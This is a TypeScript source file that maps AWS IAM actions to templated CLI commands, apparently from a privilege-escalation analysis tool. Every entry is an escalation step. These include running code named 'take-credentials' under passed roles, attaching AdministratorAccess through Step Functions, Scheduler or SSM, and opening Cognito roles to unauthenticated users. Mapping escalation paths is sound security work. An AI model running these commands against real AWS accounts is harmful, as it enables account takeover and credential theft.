/** Commands on functions, workflows, builds, jobs and stacks, by action. `[…]` only where its values are known. */
export const functionCommands: Readonly<Record<string, string>> = {
  'lambda:CreateFunction':
    'aws lambda create-function --function-name {made} --runtime python3.13 --handler index.handler --role {roleArn} --zip-file fileb://take-credentials.zip',
  'lambda:InvokeFunction': 'aws lambda invoke --function-name {function} answer.json',
  'lambda:AddPermission':
    'aws lambda add-permission --function-name {function} --statement-id escalation --action lambda:InvokeFunction --principal {account}',
  'lambda:CreateEventSourceMapping':
    'aws lambda create-event-source-mapping --function-name {function} --event-source-arn {stream}',
  'lambda:UpdateFunctionCode':
    'aws lambda update-function-code --function-name {function} --zip-file fileb://take-credentials.zip',
  'lambda:UpdateFunctionConfiguration':
    'aws lambda update-function-configuration --function-name {function} --environment Variables={AWS_LAMBDA_EXEC_WRAPPER=/opt/take-credentials}',
  'dynamodb:CreateTable':
    'aws dynamodb create-table --table-name {made} --attribute-definitions AttributeName=id,AttributeType=S --key-schema AttributeName=id,KeyType=HASH --billing-mode PAY_PER_REQUEST --stream-specification StreamEnabled=true,StreamViewType=NEW_IMAGE',
  'dynamodb:PutItem': 'aws dynamodb put-item --table-name {made} --item id={S=go}',
  'scheduler:CreateSchedule':
    'aws scheduler create-schedule --name {made} --schedule-expression "rate(1 minute)" --flexible-time-window Mode=OFF --target \'{"Arn":"arn:aws:scheduler:::aws-sdk:iam:{attach}","RoleArn":"{roleArn}","Input":"{\\"{nameOfMe}\\":\\"{me}\\",\\"PolicyArn\\":\\"arn:aws:iam::aws:policy/AdministratorAccess\\"}"}\'',
  'states:CreateStateMachine':
    'aws stepfunctions create-state-machine --name {made} --role-arn {roleArn} --definition \'{"StartAt":"Attach","States":{"Attach":{"Type":"Task","Resource":"arn:aws:states:::aws-sdk:iam:{attach}","Parameters":{"{nameOfMe}":"{me}","PolicyArn":"arn:aws:iam::aws:policy/AdministratorAccess"},"End":true}}}\'',
  'states:UpdateStateMachine':
    'aws stepfunctions update-state-machine --state-machine-arn {host} --definition \'{"StartAt":"Attach","States":{"Attach":{"Type":"Task","Resource":"arn:aws:states:::aws-sdk:iam:{attach}","Parameters":{"{nameOfMe}":"{me}","PolicyArn":"arn:aws:iam::aws:policy/AdministratorAccess"},"End":true}}}\'',
  'states:StartExecution': 'aws stepfunctions start-execution --state-machine-arn {stateMachine}',
  'ssm:CreateDocument':
    'aws ssm create-document --name {made} --document-type Automation --content file://attach-administrator-access.json',
  'ssm:StartAutomationExecution':
    'aws ssm start-automation-execution --document-name escalation --parameters AutomationAssumeRole={roleArn}',
  'cognito-identity:SetIdentityPoolRoles':
    'aws cognito-identity set-identity-pool-roles --identity-pool-id {identityPool} --roles unauthenticated={roleArn}',
  'glue:CreateDevEndpoint':
    'aws glue create-dev-endpoint --endpoint-name escalation --role-arn {roleArn} --public-key file://my-key.pub',
  'glue:UpdateDevEndpoint': 'aws glue update-dev-endpoint --endpoint-name {hostName} --public-key file://my-key.pub',
  'glue:CreateJob':
    'aws glue create-job --name {made} --role {roleArn} --command Name=pythonshell,ScriptLocation=s3://my-bucket/take-credentials.py',
  'glue:UpdateJob':
    'aws glue update-job --job-name {hostName} --job-update Role={roleArn},Command={Name=pythonshell,ScriptLocation=s3://my-bucket/take-credentials.py}',
  'glue:StartJobRun': 'aws glue start-job-run --job-name {job}',
  'glue:CreateTrigger':
    'aws glue create-trigger --name {made} --type ON_DEMAND --actions JobName={job} --start-on-creation',
  'glue:CreateSession': 'aws glue create-session --id {made} --role {roleArn} --command Name=glueetl,PythonVersion=3',
  'glue:RunStatement': 'aws glue run-statement --session-id {made} --code take-credentials',
  'codebuild:CreateProject':
    'aws codebuild create-project --name {made} --source file://take-credentials.json --artifacts type=NO_ARTIFACTS --environment type=LINUX_CONTAINER,image=aws/codebuild/standard:7.0,computeType=BUILD_GENERAL1_SMALL --service-role {roleArn}',
  'codebuild:UpdateProject': 'aws codebuild update-project --name {hostName} --service-role {roleArn}',
  'codebuild:StartBuild':
    'aws codebuild start-build --project-name {project} --buildspec-override file://take-credentials.yml',
  'codebuild:StartBuildBatch':
    'aws codebuild start-build-batch --project-name {project} --buildspec-override file://take-credentials.yml',
  'datapipeline:CreatePipeline': 'aws datapipeline create-pipeline --name escalation --unique-id escalation',
  'datapipeline:PutPipelineDefinition':
    'aws datapipeline put-pipeline-definition --pipeline-id {made} --pipeline-definition file://shell-command.json',
  'datapipeline:ActivatePipeline': 'aws datapipeline activate-pipeline --pipeline-id {made}',
  'cloudformation:CreateStack':
    'aws cloudformation create-stack --stack-name {made} --template-body file://new-administrator.yaml --capabilities CAPABILITY_NAMED_IAM --role-arn {roleArn}',
  'cloudformation:UpdateStack':
    'aws cloudformation update-stack --stack-name {hostName} --template-body file://new-administrator.yaml --capabilities CAPABILITY_NAMED_IAM[ --role-arn {passed}]',
  'cloudformation:CreateChangeSet':
    'aws cloudformation create-change-set --stack-name {stack} --change-set-name escalation --template-body file://new-administrator.yaml --capabilities CAPABILITY_NAMED_IAM[ --role-arn {passed}]',
  'cloudformation:ExecuteChangeSet':
    'aws cloudformation execute-change-set --stack-name {stack} --change-set-name escalation',
  'cloudformation:CreateStackSet':
    'aws cloudformation create-stack-set --stack-set-name escalation --template-body file://new-administrator.yaml --capabilities CAPABILITY_NAMED_IAM --administration-role-arn {roleArn}',
  'cloudformation:CreateStackInstances':
    'aws cloudformation create-stack-instances --stack-set-name escalation --accounts {account} --regions {region}',
  'cloudformation:UpdateStackSet':
    'aws cloudformation update-stack-set --stack-set-name {hostName} --template-body file://new-administrator.yaml --capabilities CAPABILITY_NAMED_IAM --administration-role-arn {passed}',
};
